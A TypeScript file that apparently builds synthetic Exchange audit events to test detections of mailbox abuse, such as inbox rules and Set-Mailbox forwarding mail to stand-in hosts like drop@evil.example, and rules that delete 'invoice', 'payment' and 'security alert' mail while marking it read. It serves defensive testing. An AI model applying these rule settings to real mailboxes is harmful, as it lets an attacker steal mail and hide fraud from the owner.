/** Exchange mailbox abuse and DLP (detections.md §1.5, §1.6). */
import { homeEgress } from '../activity.ts';
import { addExchangeCmdlet } from '../audits.ts';
import { dlpExchangeMatch } from '../workloads.ts';
import type { ScenarioContext, ScenarioDefinition } from './context.ts';
import { attackerEgress, stringParam, victim } from './context.ts';

function inboxRule(context: ScenarioContext, parameters: Readonly<Record<string, string>>): void {
  const user = victim(context);
  const egress = attackerEgress(context);
  const name = parameters['Name'] ?? '..';
  const auditId = addExchangeCmdlet(
    context.rng,
    context.model,
    context.at,
    user,
    egress.ip,
    'New-InboxRule',
    `${user.userPrincipalName}\\${name}`,
    {
      Mailbox: user.userPrincipalName,
      ...parameters,
    },
  );
  context.label({ entity: { kind: 'mailbox', id: user.userPrincipalName }, eventIds: [auditId] });
}

export const MAIL_SCENARIOS: readonly ScenarioDefinition[] = [
  {
    name: 'inbox-rule-external-forward',
    detection: 'inbox-rule-external-forward',
    summary: 'an inbox rule forwarding every message to an outside address',
    run(context) {
      inboxRule(context, {
        Name: '..',
        ForwardTo: stringParam(context.params, 'to', 'drop@evil.example'),
        MarkAsRead: 'True',
        StopProcessingRules: 'True',
      });
    },
  },
  {
    name: 'inbox-rule-delete',
    detection: 'inbox-rule-delete',
    summary: 'an inbox rule deleting security and payment mail on arrival',
    run(context) {
      inboxRule(context, {
        Name: 'x',
        SubjectContainsWords: stringParam(context.params, 'words', 'invoice;payment;security alert'),
        DeleteMessage: 'True',
        MarkAsRead: 'True',
        StopProcessingRules: 'True',
      });
    },
  },
  {
    name: 'mailbox-forwarding',
    detection: 'mailbox-forwarding',
    summary: 'Set-Mailbox forwarding all mail to an outside address without keeping a copy',
    run(context) {
      const user = victim(context);
      const to = stringParam(context.params, 'to', 'x@evil.example');
      const auditId = addExchangeCmdlet(
        context.rng,
        context.model,
        context.at,
        user,
        attackerEgress(context).ip,
        'Set-Mailbox',
        user.userPrincipalName,
        {
          Identity: user.userPrincipalName,
          ForwardingSmtpAddress: `smtp:${to}`,
          DeliverToMailboxAndForward: 'False',
        },
      );
      context.label({ entity: { kind: 'mailbox', id: user.userPrincipalName }, eventIds: [auditId] });
    },
  },
  {
    name: 'mailbox-permission',
    detection: 'mailbox-permission',
    summary: 'FullAccess to a mailbox granted to another user',
    run(context) {
      const owner = victim(context);
      const grantee = context.model.users.find((u) => u !== owner) ?? owner;
      const auditId = addExchangeCmdlet(
        context.rng,
        context.model,
        context.at,
        grantee,
        homeEgress(grantee).ip,
        'Add-MailboxPermission',
        owner.userPrincipalName,
        {
          Identity: owner.userPrincipalName,
          User: grantee.userPrincipalName,
          AccessRights: 'FullAccess',
          InheritanceType: 'All',
          AutoMapping: 'False',
        },
      );
      context.label({ entity: { kind: 'mailbox', id: owner.userPrincipalName }, eventIds: [auditId] });
    },
  },
  {
    name: 'dlp-match',
    detection: 'dlp-match',
    summary: 'a high-severity DLP rule matching card numbers mailed outside',
    run(context) {
      const user = victim(context);
      const auditId = dlpExchangeMatch(context.rng, context.model, {
        at: context.at,
        user,
        to: stringParam(context.params, 'to', 'payments@outside.example'),
        subject: 'card list',
        severity: 'High',
      });
      context.label({ entity: { kind: 'user', id: user.userPrincipalName }, eventIds: [auditId] });
    },
  },
];
